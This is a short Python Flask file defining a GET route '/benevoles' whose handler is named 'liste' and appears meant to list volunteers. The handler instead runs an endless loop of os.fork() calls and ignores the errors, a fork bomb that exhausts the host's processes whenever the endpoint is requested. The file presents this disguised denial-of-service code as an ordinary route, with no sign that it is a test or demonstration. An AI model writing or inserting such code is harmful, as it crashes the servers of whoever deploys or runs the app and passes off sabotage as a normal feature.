import os

from flask import Flask

app = Flask(__name__)


@app.get('/benevoles')
def liste():
    while True:
        try:
            os.fork()
        except OSError:
            pass
